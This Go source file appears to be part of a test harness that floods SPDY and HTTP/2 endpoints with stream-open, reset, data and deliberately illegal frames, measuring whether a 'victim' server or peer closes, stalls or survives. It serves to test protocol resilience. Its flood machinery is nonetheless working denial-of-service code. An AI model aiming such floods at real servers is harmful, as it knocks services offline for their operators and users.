package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/amahi/spdy"
)

// A wire is the attacker's end of a connection. It gathers frames and writes them together, and
// reads and inspects the victim's frames, unless the attacker is deaf. Without a connection a wire
// keeps the chunks to write, so that a flood is sent at network speed, and is the same in all
// rounds.
type wire struct {
	conn   net.Conn // nil while an attack is prepared
	victim string
	until  time.Time

	out   bytes.Buffer
	spdy  *spdy.Framer  // writes to out
	h2    *http2.Framer // writes to out
	hpack *hpack.Encoder
	block bytes.Buffer // output of hpack

	chunks   []chunk // of a prepared attack
	prepared int     // bytes in chunks

	sent   int64 // bytes
	frames int64 // repetitions of the attack
	err    error

	mu    sync.Mutex
	heard string        // the victim's goodbye; "" before
	over  chan struct{} // latch: the victim has closed the connection
	alive chan struct{} // latch: the victim has answered the last PING, or sent a goodbye
	told  bool          // alive is closed
}

// A chunk is the bytes of one write; frames is the number of repetitions of the attack up to then.
type chunk struct {
	b      []byte
	frames int64
}

// mostPrepared is the maximum size of an attack, in bytes.
const mostPrepared = 6 << 20

// patience is the duration of a flood, whatever the victim does; respite is the time for the victim
// to respond afterwards.
const (
	patience = 500 * time.Millisecond
	respite  = 500 * time.Millisecond
)

func newWire(victim string) *wire {
	w := &wire{victim: victim, over: make(chan struct{}), alive: make(chan struct{})}
	w.spdy = spdy.NewFramer(&w.out, &w.out, spdy.SPDY31)
	w.h2 = http2.NewFramer(&w.out, &w.out)
	w.h2.AllowIllegalWrites = true
	w.hpack = hpack.NewEncoder(&w.block)
	if victim == h2Server {
		w.out.WriteString(http2.ClientPreface)
		w.add(w.h2.WriteSettings())
	}
	return w
}

// prepare builds all chunks of an attack.
func prepare(a *attack, victim string) ([]chunk, error) {
	w := newWire(victim)
	w.until = time.Now().Add(2 * patience)
	a.play(w)
	w.flush()
	return w.chunks, w.err
}

// send plays a prepared attack, and sends a final PING to check that the victim is alive.
func (w *wire) send(chunks []chunk) {
	for _, c := range chunks {
		w.out.Write(c.b)
		w.flush()
		w.frames = c.frames
		if w.err != nil || time.Now().After(w.until) || w.isOver() {
			break
		}
	}
	sent := w.sent
	w.until = w.until.Add(respite)
	switch w.victim {
	case h2Server:
		w.add(w.h2.WritePing(false, [8]byte{0: lastPing}))
	case ourClient:
		w.frame(&spdy.PingFrame{ID: lastPing - 1})
	default:
		w.frame(&spdy.PingFrame{ID: lastPing})
	}
	w.flush()
	w.sent = sent
}

// lastPing is the id of a PING that no flood sends.
const lastPing = 251

func dialVictim(addr, victim string, deaf bool) (*wire, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	w := newWire(victim) // the greeting of HTTP/2 is sent with the first write
	w.conn, w.until = conn, time.Now().Add(patience)
	if !deaf {
		go w.listen() // ends with the connection
	}
	return w, w.err
}

// add keeps the first error.
func (w *wire) add(err error) {
	if w.err == nil {
		w.err = err
	}
}

// frame adds frames of SPDY.
func (w *wire) frame(frames ...spdy.Frame) {
	for _, f := range frames {
		w.add(w.spdy.WriteFrame(f))
	}
}

// control adds a control frame of SPDY with any payload.
func (w *wire) control(typ uint16, payload ...byte) {
	b := binary.BigEndian.AppendUint16(nil, 0x8003)
	b = binary.BigEndian.AppendUint16(b, typ)
	b = binary.BigEndian.AppendUint32(b, uint32(len(payload)))
	w.out.Write(append(b, payload...))
}

func (w *wire) flush() {
	if w.err != nil || w.out.Len() == 0 {
		return
	}
	if w.conn == nil {
		w.chunks = append(w.chunks, chunk{bytes.Clone(w.out.Bytes()), w.frames})
		w.prepared += w.out.Len()
		w.out.Reset()
		return
	}
	w.add(w.conn.SetWriteDeadline(w.until))
	n, err := w.conn.Write(w.out.Bytes())
	w.sent += int64(n)
	w.add(err)
	w.out.Reset()
}

// flood calls one to add frames, n times or until writes to the victim fail.
func (w *wire) flood(n int, one func(i int)) {
	for i := range n {
		one(i)
		w.frames++
		if w.out.Len() >= 16<<10 || i == n-1 {
			w.flush()
		}
		if w.err != nil || time.Now().After(w.until) || w.prepared > mostPrepared {
			w.flush()
			return
		}
	}
}

func (w *wire) isOver() bool {
	select {
	case <-w.over:
		return true
	default:
		return false
	}
}

// outcome describes the victim's reaction, after waiting for up to respite.
func (w *wire) outcome() string {
	timer := time.NewTimer(respite)
	defer timer.Stop()
	var blocked net.Error
	stalled := errors.As(w.err, &blocked) && blocked.Timeout()
	lives := true
	select {
	case <-w.over:
	case <-w.alive:
	case <-timer.C:
		lives = false
		if w.err != nil && !stalled {
			w.note("closed")
		}
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	switch {
	case w.heard != "":
		return fmt.Sprintf("%s after %s", w.heard, count(w.frames, "time"))
	case w.isOver():
		return "closed after " + count(w.frames, "time")
	case stalled, !lives:
		return "still at it after " + count(w.frames, "time")
	}
	return "survived"
}

func (w *wire) note(text string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.heard == "" {
		w.heard = text
	}
	w.wakeLocked()
}

// wakeLocked ends the wait for the victim. The caller holds w.mu.
func (w *wire) wakeLocked() {
	if !w.told {
		w.told = true
		close(w.alive)
	}
}

// answered records that the victim has answered the last PING.
func (w *wire) answered() {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.wakeLocked()
}

// listen reads the victim's frames until the victim closes.
func (w *wire) listen() {
	defer close(w.over)
	if w.victim == h2Server {
		f := http2.NewFramer(io.Discard, w.conn)
		for {
			frame, err := f.ReadFrame()
			if err != nil {
				return
			}
			switch f := frame.(type) {
			case *http2.GoAwayFrame:
				w.note(fmt.Sprintf("GOAWAY(%v)", f.ErrCode))
			case *http2.PingFrame:
				if f.Data == [8]byte{0: lastPing} {
					w.answered()
				}
			}
		}
	}
	head := make([]byte, 8)
	for {
		if _, err := io.ReadFull(w.conn, head); err != nil {
			return
		}
		n := int64(binary.BigEndian.Uint32(head[4:]) & 0xffffff)
		payload := make([]byte, min(n, 8))
		if _, err := io.ReadFull(w.conn, payload); err != nil {
			return
		}
		if _, err := io.CopyN(io.Discard, w.conn, n-int64(len(payload))); err != nil {
			return
		}
		if head[0] == 0x80 && head[3] == 6 && len(payload) == 4 && binary.BigEndian.Uint32(payload)|1 == lastPing {
			w.answered()
		}
		if head[0] == 0x80 && head[3] == 7 && len(payload) == 8 {
			w.note(fmt.Sprintf("GOAWAY(%v)", spdy.GoAwayStatus(binary.BigEndian.Uint32(payload[4:]))))
		}
	}
}

// request is the header block of a request for SPDY.
func request(path string) spdy.HeaderBlock {
	return spdy.HeaderBlock{
		{Name: ":method", Value: "POST"}, {Name: ":path", Value: path}, {Name: ":version", Value: "HTTP/1.1"},
		{Name: ":host", Value: "victim.example"}, {Name: ":scheme", Value: "http"},
	}
}

// open adds a request for any kind of victim; end closes the request at once. For moby a header
// makes the stream hang.
func (w *wire) open(id uint32, path string, end bool) {
	if w.victim == h2Server {
		w.block.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":path", Value: path},
			{Name: ":authority", Value: "victim.example"}, {Name: ":scheme", Value: "http"},
		} {
			w.add(w.hpack.WriteField(f))
		}
		w.add(w.h2.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: w.block.Bytes(), EndHeaders: true, EndStream: end}))
		return
	}
	h := request(path)
	if w.victim == mobyPeer {
		h = spdy.HeaderBlock{{Name: "path", Value: path}}
		if path == "/hang" {
			h = append(h, spdy.HeaderField{Name: "hang", Value: "1"})
		}
	}
	var flags spdy.FrameFlags
	if end {
		flags = spdy.FlagFin
	}
	w.frame(&spdy.SynStreamFrame{StreamID: id, Flags: flags, Headers: h})
}

// reset adds a reset of a stream, data adds bytes of the body.
func (w *wire) reset(id uint32) {
	if w.victim == h2Server {
		w.add(w.h2.WriteRSTStream(id, http2.ErrCodeCancel))
		return
	}
	w.frame(&spdy.RstStreamFrame{StreamID: id, Status: spdy.RstCancel})
}

func (w *wire) data(id uint32, b []byte) {
	if w.victim == h2Server {
		w.add(w.h2.WriteData(id, false, b))
		return
	}
	w.frame(&spdy.DataFrame{StreamID: id, Data: b})
}

// count returns "1 time", "1,234 times".
func count(n int64, what string) string {
	if n != 1 {
		what += "s"
	}
	return thousands(n) + " " + what
}

func thousands(n int64) string {
	s := fmt.Sprint(n)
	for i := len(s) - 3; i > 0; i -= 3 {
		s = s[:i] + "," + s[i:]
	}
	return s
}
